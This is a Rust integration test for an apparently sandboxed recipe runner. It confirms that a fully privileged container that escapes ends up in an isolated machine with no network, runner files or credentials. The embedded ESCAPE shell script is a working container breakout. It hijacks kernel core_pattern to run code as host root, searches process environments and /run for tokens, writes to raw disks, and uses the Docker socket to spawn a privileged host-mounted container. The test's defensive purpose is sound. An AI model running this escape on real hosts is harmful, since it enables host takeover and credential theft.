//! A recipe that is given everything gets out of its container. It is in a machine then that has nothing: not the runner's files,
//! processes and sockets, no network, no credential.

use std::net::TcpListener;
use std::path::Path;

use assay_model::Verdict;

use crate::world::{World, put, stage};

/// Written where nobody in a machine may find it.
const SECRET: &str = "correct-horse-battery-staple";

/// What the trusted side allows, by mistake or on purpose.
const ALLOWED: &str = r#"
capabilities = ["SYS_ADMIN", "SYS_PTRACE", "NET_ADMIN", "SYS_MODULE", "MKNOD"]
[[binds]]
path = "/"
write = true
"#;

/// The container's program. It becomes root of the machine by the way in which a kernel handles crashes, and looks around there.
/// `{folder}` is this test's on the runner's machine, `{port}` where somebody listens there as the control plane would. `{pattern}` finds
/// the secret of another run's folder, and not itself.
const ESCAPE: &str = r#"#!/bin/sh
cat >/host/usr/bin/stranger <<'END'
#!/bin/sh
exec >/stranger.told 2>&1
# Once is enough.
echo core >/proc/sys/kernel/core_pattern
export PATH=/usr/sbin:/usr/bin:/sbin:/bin
echo "user $(id -u) of the machine $(cat /proc/sys/kernel/hostname), first process $(tr '\0' ' ' </proc/1/cmdline)"
echo "network: $(ls /sys/class/net | tr '\n' ' ')"
echo "routes: $(ip route show table all type unicast 2>&1 | grep -v 'dev lo' | wc -l)"
ls -d "{folder}" && echo "FOUND the runner's folder"
grep -l "{pattern}" /proc/[0-9]*/environ 2>/dev/null && echo "FOUND the runner's process"
mount -t 9p 2>&1 | grep 9p && echo "FOUND a shared folder"
for host in 127.0.0.1 10.0.2.2 192.168.122.1 172.17.0.1; do
    curl --silent --max-time 3 --output /dev/null "http://$host:{port}/" && echo "FOUND somebody at $host"
done
grep -rl '[B]earer\|runner[.]token\|credential["]' /run /var/lib/assay/inputs 2>/dev/null && echo "FOUND what lets somebody in"
for disk in /dev/vda /dev/vdb; do
    echo x 2>/dev/null >"$disk" && echo "FOUND a disk to write on: $disk"
done
# Devices: there are the machine's own three disks, no shared channel but one, and that is somebody's.
echo "disks: $(ls /sys/block | grep -v '^loop' | tr '\n' ' ')"
echo "channels: $(cat /sys/class/virtio-ports/*/name | tr '\n' ' ')"
for channel in /dev/vport*; do
    (: >"$channel") 2>/dev/null && echo "FOUND that the channel $channel can be opened"
done
[ -e /dev/kvm ] && echo "FOUND the processor's virtual machines"
grep -l '[q]emu-system\|[r]ecipe test' /proc/[0-9]*/cmdline 2>/dev/null && echo "FOUND a process of the runner's"
# Other runs: neither on the disks nor in any file is what belongs to one.
grep -c "{pattern}" /dev/vda | grep -qx 0 || echo "FOUND another run's word on the disk of the recipe"
grep -rl "{pattern}" /etc /run /root /var/lib/assay/inputs 2>/dev/null && echo "FOUND another run's word"
# The Docker socket: whoever has it asks for a container that is given everything once more.
socket=$(find /var/lib/assay/runs -maxdepth 3 -name docker.sock | head -n 1)
docker() {
    at=$1
    shift
    curl --silent --max-time 60 --unix-socket "$socket" -H "Content-Type: application/json" "$@" "http://docker/v1.41/$at"
}
image=$(docker images/json | jq -r '.[0].Id')
inner='echo "as $(id -u), first process $(head -c 20 /proc/1/cmdline | tr "\0" " "), networks $(ls /sys/class/net | grep -c assay)"'
inner="$inner; ls -d /host{folder} 2>/dev/null && echo FOUND the folder of the runner"
inner="$inner; for host in 10.77.0.1 10.0.2.2 127.0.0.1; do chroot /host curl --silent --max-time 3 --output /dev/null http://\$host:{port}/ && echo FOUND somebody at \$host; done"
inner="$inner; echo tried everything"
host='{"Privileged":true,"PidMode":"host","NetworkMode":"host","IpcMode":"host","Binds":["/:/host"],"Devices":[{"PathOnHost":"/dev/vdc","PathInContainer":"/dev/vdc","CgroupPermissions":"rwm"}]}'
wanted=$(jq -n --arg image "$image" --arg inner "$inner" --argjson host "$host" \
    '{Image:$image, Entrypoint:["sh","-c"], Cmd:[$inner], Tty:true, HostConfig:$host}')
id=$(docker containers/create -d "$wanted" | jq -r .Id)
docker "containers/$id/start" -X POST
docker "containers/$id/wait" -X POST >/dev/null
echo "by the Docker socket: $(docker "containers/$id/logs?stdout=1&stderr=1" | tr -d '\r')"
docker "containers/$id" -X DELETE
echo "looked at everything"
END
chmod 755 /host/usr/bin/stranger
look() {
    echo '|/usr/bin/stranger' >/host/proc/sys/kernel/core_pattern
    sh -c 'kill -SEGV $$'
    until grep -q "looked at everything" /host/stranger.told 2>/dev/null; do sleep 1; done
    cp /host/stranger.told /srv/www/told.txt
}
look &
exec static-web -p 80 -h /srv/www -c /etc/httpd.conf
"#;

/// Tells what it has found, once it has looked at everything.
const TOLD: &str = r#"#!/usr/bin/env python3
# assay-context: 1
import json, os, ssl, time, urllib.error, urllib.request
with open(os.environ["ASSAY_CONTEXT"]) as file:
    context = json.load(file)
trust = ssl.create_default_context(cafile=context["paths"]["ca_file"])
for _ in range(120):
    try:
        print(urllib.request.urlopen(f"{context['base_url']}/told.txt", timeout=10, context=trust).read().decode())
        break
    except urllib.error.HTTPError:
        time.sleep(1)
"#;

#[tokio::test]
async fn who_gets_out_of_a_container_is_in_a_machine_that_has_nothing() {
    let world = World::new().await;
    let recipe = world.checkout().await;
    let listener = TcpListener::bind("0.0.0.0:0").expect("a port");
    listener.set_nonblocking(true).expect("it does not wait");
    let port = listener.local_addr().expect("an address").port();
    let marker = world.path("marker");
    std::fs::write(&marker, SECRET).expect("written");
    // As another run has it that is tested beside this one.
    let other = world.path("t/machines/run-other");
    std::fs::create_dir_all(&other).expect("a folder");
    std::fs::write(other.join("inputs.tar"), SECRET).expect("written");
    let pattern = || std::fs::read_to_string("/proc/sys/kernel/core_pattern").expect("a setting");
    let pattern_before = pattern();
    let script = ESCAPE
        .replace("{folder}", &world.path("").display().to_string())
        .replace("{port}", &port.to_string())
        .replace("{pattern}", &format!("[{}]{}", &SECRET[..1], &SECRET[1..]));
    std::fs::write(recipe.join("escape"), script).expect("written");
    put(&recipe, "functional/told", TOLD);
    let compose = std::fs::read_to_string(recipe.join("compose.yml")).expect("a file");
    let changed = compose
        .replace(
            r#"command: ["-p", "80", "-h", "/srv/www", "-c", "/etc/httpd.conf"]"#,
            "entrypoint: [\"sh\", \"/escape\"]\n    cap_add: [SYS_ADMIN, SYS_PTRACE, NET_ADMIN, SYS_MODULE, MKNOD]",
        )
        .replace("      - content:/srv/www\n", "      - content:/srv/www\n      - /:/host\n")
        .replace(
            "        target: /etc/httpd.conf\n",
            "        target: /etc/httpd.conf\n      - source: escape\n        target: /escape\n",
        );
    let changed = format!("{changed}  escape:\n    name: ${{STACK_NAME}}_escape_v1\n    file: escape\n");
    std::fs::write(recipe.join("compose.yml"), changed).expect("written");
    std::fs::write(world.path("allowed.toml"), ALLOWED).expect("written");
    let allow = world.path("allowed.toml").display().to_string();

    let tested = world.start(&recipe, &["--quick", "--allow", &allow]).await.ended().await;
    let told = tested.artifact("functional-told.log");
    assert!(
        told.contains("user 0 of the machine assay-guest, first process /bin/sh /usr/sbin/assay-guest"),
        "{told}"
    );
    assert!(told.contains("looked at everything"), "{told}");
    assert!(!told.contains("FOUND"), "{told}");
    assert!(told.contains("network: lo "), "{told}");
    assert!(told.contains("routes: 0"), "{told}");
    assert!(told.contains("disks: vda vdb vdc "), "{told}");
    assert!(told.contains("channels: org.assay.guest.0 "), "{told}");
    assert!(told.contains("by the Docker socket: as 0, first process /bin/sh -c "), "{told}");
    assert!(told.contains("networks 2") && told.contains("tried everything"), "{told}");
    assert_eq!(stage(&tested.report(), "Custom").verdict, Some(Verdict::Pass), "{}", tested.said);

    // The runner's machine is as it was.
    assert_eq!(pattern(), pattern_before);
    assert!(!Path::new("/usr/bin/stranger").exists() && !Path::new("/stranger.told").exists());
    assert_eq!(std::fs::read_to_string(&marker).expect("it is there"), SECRET);
    assert!(listener.accept().is_err(), "nobody came");
    assert_eq!(std::fs::read_to_string(other.join("inputs.tar")).expect("it is there"), SECRET);
    std::fs::remove_dir_all(world.path("t/machines")).expect("it is this test's");
    world.is_clean();
}
